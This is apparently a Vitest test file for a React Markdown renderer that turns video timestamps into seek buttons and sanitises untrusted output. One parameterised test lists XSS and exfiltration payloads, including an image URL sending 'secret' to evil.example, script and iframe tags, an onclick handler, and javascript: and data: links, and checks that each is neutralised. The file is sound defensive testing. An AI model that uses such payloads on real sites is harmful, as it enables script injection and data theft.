// @vitest-environment jsdom
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";
import Markdown from "@/features/results/markdown";
import { findMentions } from "@/features/results/timestamps";

afterEach(cleanup);

function show(text: string, duration: number | null = 30) {
  const onSeek = vi.fn();
  const timestamps = findMentions(text)
    .filter(({ seconds }) => duration === null || seconds <= duration)
    .map(({ from, to, seconds, end }) => ({ seconds, end, text: text.slice(from, to) }));
  const { container } = render(
    <Markdown text={text} timestamps={timestamps} duration={duration} onSeek={onSeek} />,
  );
  return { container, onSeek };
}

test("a timestamp seeks the player", () => {
  const { onSeek } = show("- **0:12.5** a cut");
  fireEvent.click(screen.getByRole("button", { name: "Go to 0:12.5" }));
  expect(onSeek).toHaveBeenCalledWith(12.5);
});

test("a timestamp beyond the video's end is struck through and leads nowhere", () => {
  const { container } = show("At 1:20 the credits start.");
  expect(container.querySelector("s")?.textContent).toBe("1:20");
  expect(container.textContent).toContain("beyond the end (0:30)");
  expect(screen.queryByRole("button")).toBeNull();
});

test("rounding to the end is no mistake of the model, and an unknown length judges nothing", () => {
  show("0:30 the end", 29.97);
  expect(screen.getByRole("button", { name: "Go to 0:30" })).toBeDefined();
  show("9:59:59", null);
  expect(screen.getByRole("button", { name: "Go to 9:59:59" })).toBeDefined();
});

test("a chip stands for the square brackets around it", () => {
  const { container } = show("At [00:12] a cut, and [not] here (0:14).");
  expect(screen.getByRole("button", { name: "Go to 0:12" }).textContent).toBe("00:12");
  expect(container.textContent?.replaceAll("\u2060", "")).toBe("At 00:12 a cut, and [not] here (0:14).");
});

test("code and links keep their text", () => {
  const { container } = show("`0:05` and [0:06](https://example.org)\n\n```\n0:07\n```");
  expect(screen.queryByRole("button")).toBeNull();
  expect(container.textContent).toContain("0:05");
});

test("links to elsewhere open apart and tell nothing of this page", () => {
  show("[more](https://example.org)");
  const link = screen.getByRole("link", { name: "more" });
  expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  expect(link.getAttribute("target")).toBe("_blank");
});

test.each([
  "![](https://evil.example/?q=secret)",
  '<img src="https://evil.example/x.png">',
  "<script>alert(1)</script>",
  '<a href="x" onclick="alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](data:text/html,hi)",
  "[x](/api/jobs)",
  '<iframe src="https://evil.example"></iframe>',
  "- [x] done",
])("%s becomes nothing that loads, runs or leads into this page", (text) => {
  const { container } = show(text);
  expect(container.querySelector("img, script, iframe, a, input, link")).toBeNull();
});

test("tables and lists are shown as such", () => {
  const { container } = show("| a | b |\n|---|---|\n| 0:01 | x |\n\n1. one");
  expect(container.querySelector("table button")).not.toBeNull();
  expect(container.querySelector("ol li")).not.toBeNull();
});
